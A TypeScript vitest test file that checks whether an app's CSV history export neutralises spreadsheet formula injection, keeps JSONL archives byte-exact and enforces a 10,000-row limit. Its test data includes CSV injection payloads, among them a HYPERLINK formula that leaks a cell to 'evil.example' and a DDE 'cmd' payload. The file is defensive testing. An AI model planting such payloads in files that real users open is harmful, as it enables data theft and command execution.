import { execFileSync } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Core } from '../../src/main/core/core-types'
import type { NewHistoryEntry } from '../../src/shared/model/history'
import { makeEntries, writeJsonl } from '../support/history-fixtures'
import { openTestCore, tempDataDir } from '../support/test-core'

const now = Date.parse('2026-11-23T12:00:00+09:00')
let dataDir: string
let core: Core

function seed(entries: readonly NewHistoryEntry[]): void {
  const file = join(dataDir, `seed-${Math.random()}.jsonl`)
  writeJsonl(file, entries)
  core.files.importHistory(file)
}

/** Python's csv module: a reader Renkei did not write, as Excel-like tools parse the file. */
function parseWithPython(file: string): string[][] {
  const script =
    'import csv, json, sys\n' +
    "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n" +
    '    print(json.dumps(list(csv.reader(f))))\n'
  return JSON.parse(
    execFileSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' }),
  ) as string[][]
}

beforeEach(async () => {
  dataDir = tempDataDir('renkei-export-safety-')
  core = await openTestCore(dataDir)
})
afterEach(async () => {
  await core.close()
})

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tタブで始まる',
  '\r=復帰で始まる',
  '一行目\r二行目（CRだけ）',
  '一行目\n二行目（LFだけ）',
  '"引用符" と , カンマ',
  '＝全角の等号',
  '普通のメッセージ',
]

function hostileEntries(): NewHistoryEntry[] {
  return hostile.map((message, i) => ({
    uid: `hostile-${i}`,
    ts: now - i * 1000,
    site: i === 0 ? '=cmd' : '大阪支社',
    direction: 'send',
    category: i === 1 ? '@category' : '社員',
    level: 'warning',
    message,
    detail: i === 2 ? -5 : { text: message },
  }))
}

describe('CSV export against formula injection (OWASP)', () => {
  it('parses back with an independent reader to the same rows, every formula cell neutralised', () => {
    seed(hostileEntries())
    const out = join(dataDir, 'hostile.csv')
    expect(core.files.exportHistory({}, 'csv', out, 'ja')).toBe(hostile.length)
    const rows = parseWithPython(out)
    expect(rows).toHaveLength(hostile.length + 1)
    expect(rows[0]).toEqual(['日時', 'サイト', '連携方向', '区分', 'レベル', '内容', '詳細'])
    const body = rows.slice(1)
    // Newest first: row i holds hostile[i]; cells that a spreadsheet would run get a leading quote.
    const neutral = (text: string): string => (/^[=+\-@\t\r＝＋－＠]/.test(text) ? `'${text}` : text)
    body.forEach((row, i) => {
      expect(row).toHaveLength(7)
      expect(row[5]).toBe(neutral(hostile[i]!))
    })
    expect(body[0]![1]).toBe("'=cmd")
    expect(body[1]![3]).toBe("'@category")
    expect(body[2]![6]).toBe("'-5")
    for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
  })

  it('writes the same neutralised cells through the API export', async () => {
    seed(hostileEntries())
    const file = await core.api['history.export']({ filter: {}, format: 'csv', language: 'en' })
    const out = join(dataDir, 'api.csv')
    writeFileSync(out, file.content)
    const rows = parseWithPython(out)
    expect(rows).toHaveLength(hostile.length + 1)
    expect(rows[1]![5]).toBe(`'${hostile[0]}`)
    expect(rows[7]![5]).toBe(hostile[6])
  })

  it('keeps the JSON Lines archive byte-exact, and an import restores the very same values', async () => {
    seed(hostileEntries())
    const archive = join(dataDir, 'hostile.jsonl')
    core.files.exportHistory({}, 'jsonl', archive, 'ja')
    const lines = readFileSync(archive, 'utf8').trimEnd().split('\n')
    expect(lines).toHaveLength(hostile.length)
    const messages = lines.map((line) => (JSON.parse(line) as { message: string }).message)
    expect(messages).toEqual(hostile)
    const otherDir = tempDataDir('renkei-export-other-')
    const other = await openTestCore(otherDir, { version: 't' })
    try {
      other.files.importHistory(archive)
      const copied = (await other.api['history.search']({ filter: {} })).entries
      expect(copied.map((e) => e.message)).toEqual(hostile)
    } finally {
      await other.close()
    }
  })
})

describe('CSV export limit at its exact boundary', () => {
  it('exports exactly 10,000 matching entries', () => {
    seed(makeEntries({ count: 10_000, site: 'A社', newest: now }))
    const out = join(dataDir, 'ten-thousand.csv')
    expect(core.files.exportHistory({ site: 'A社' }, 'csv', out, 'ja')).toBe(10_000)
    expect(readFileSync(out, 'utf8').slice(1).trimEnd().split('\r\n')).toHaveLength(10_001)
  })

  it('refuses 10,001 matching entries, naming 10,001', async () => {
    seed(makeEntries({ count: 10_001, site: 'A社', newest: now }))
    expect(() => core.files.exportHistory({ site: 'A社' }, 'csv', join(dataDir, 'x.csv'), 'ja')).toThrow(
      /10,001/,
    )
    await expect(
      core.api['history.export']({ filter: { site: 'A社' }, format: 'csv' }),
    ).rejects.toMatchObject({ code: 'too-many-rows', detail: { matched: 10_001 } })
  })
})
